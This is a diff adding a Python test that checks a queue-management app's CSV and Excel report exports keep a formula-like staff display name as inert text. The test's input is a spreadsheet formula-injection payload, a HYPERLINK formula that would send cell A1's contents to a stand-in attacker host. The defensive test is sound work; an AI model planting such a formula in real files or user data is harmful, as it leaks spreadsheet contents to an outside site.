@@ -317,3 +317,36 @@ async def test_a_chief_lists_only_their_units_appeals(web_hub: Hub) -> None:
     assert [a["staff_id"] for a in seen["appeals"]] == ["c-staff"]
     everyone = await (await web_hub.client.get("/api/v1/appeals", headers=web_hub.auth("manager"))).json()
     assert sorted(a["staff_id"] for a in everyone["appeals"]) == ["c-staff", "o-staff"]
+
+
+async def test_names_that_look_like_formulas_stay_text_in_the_files(web_hub: Hub) -> None:
+    """Tried: an account whose display name is a spreadsheet formula (=HYPERLINK sending A1 to
+    another site), serving today, then the report (CSV, XLSX, by staff) and the month's
+    assessment workbook. Kept: the name is in every file as text: a string cell in the
+    workbooks (openpyxl had stored it as a formula), behind an apostrophe in the CSV."""
+    name = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    await web_hub.app[ACCOUNTS].add_user("formula", HUB_PASSWORD, Role.STAFF, name, now=web_hub.engine.clock.now())
+    response = await web_hub.client.post("/api/v1/auth/login", json={"username": "formula", "password": HUB_PASSWORD})
+    web_hub.tokens["formula"] = (await response.json())["token"]
+    await post(web_hub, "/windows/W19/login", "formula")
+    await post(web_hub, "/tickets", "kiosk", {"queue": "C1"})
+    for step in ("call-next", "start"):
+        await post(web_hub, f"/windows/W19/{step}", "formula")
+    await post(web_hub, "/windows/W19/finish", "formula", {"outcome": "completed"})
+    period, manager = "from=2026-11-26&to=2026-11-26&by=staff", web_hub.auth("manager")
+
+    raw = await (await web_hub.client.get(f"/api/v1/stats/report.csv?{period}", headers=manager)).read()
+    labels = [line[0] for line in csv.reader(io.StringIO(raw.decode("utf-8-sig")))]
+    assert any(label.startswith("'=HYPERLINK(") for label in labels), labels
+    assert not any(label.startswith("=") for label in labels)
+
+    workbooks = [await (await web_hub.client.get(url, headers=manager)).read()
+                 for url in (f"/api/v1/stats/report.xlsx?{period}", "/api/v1/stats/assessment.xlsx?month=2026-11")]
+    found = 0
+    for data in workbooks:
+        for sheet in load_workbook(io.BytesIO(data)).worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                    found += isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK(")
+    assert found >= 2, "the name is in both workbooks, as text"
